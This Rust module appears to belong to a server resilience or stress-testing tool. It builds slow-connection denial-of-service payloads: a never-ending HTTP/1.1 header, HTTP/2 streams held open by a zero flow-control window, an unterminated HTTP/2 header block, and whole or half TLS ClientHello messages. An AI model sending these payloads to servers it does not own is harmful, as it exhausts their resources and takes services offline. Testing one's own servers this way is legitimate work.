//! What a connection of an attacker says before it stops.

use crate::frames;
use crate::http::Tls;
use anyhow::Result;

/// Streams of one connection that fit below every server's limit (RFC 9113 §6.5.2 recommends at least 100).
pub const CLOSED_WINDOW_STREAMS: u32 = 100;

/// A request of HTTP/1.1 with so many bytes of a header that does not end.
pub fn half_head(bytes: usize) -> Vec<u8> {
    [b"GET /healthz HTTP/1.1\r\nHost: a\r\nX: ".as_slice(), &vec![b'x'; bytes]].concat()
}

/// HTTP/2 with a window of 0 (RFC 9113 §6.5.2) that is never updated, and `GET` for `path` on so many streams.
pub fn closed_window(path: &str, streams: u32) -> Vec<u8> {
    let mut bytes = [preface(), &frames::frame(4, 0, 0, &[0, 4, 0, 0, 0, 0])].concat();
    for number in 0..streams {
        bytes.extend(frames::get(2 * number + 1, path));
    }
    bytes
}

/// HTTP/2 with a header block that never ends (RFC 9113 §6.2).
pub fn endless_header_block() -> Vec<u8> {
    [frames::PREFACE, &frames::frame(1, 0, 1, &[0x82])].concat()
}

/// The first message of a TLS handshake. It may be sent over any number of connections.
pub fn whole_client_hello(tls: &Tls) -> Result<Vec<u8>> {
    let mut bytes = Vec::new();
    tls.session()?.write_tls(&mut bytes)?;
    Ok(bytes)
}

/// Its first half.
pub fn half_client_hello(tls: &Tls) -> Result<Vec<u8>> {
    let mut bytes = whole_client_hello(tls)?;
    bytes.truncate(bytes.len() / 2);
    Ok(bytes)
}

/// What HTTP/2 begins with, without settings.
fn preface() -> &'static [u8] {
    frames::PREFACE.get(..24).unwrap_or_default()
}
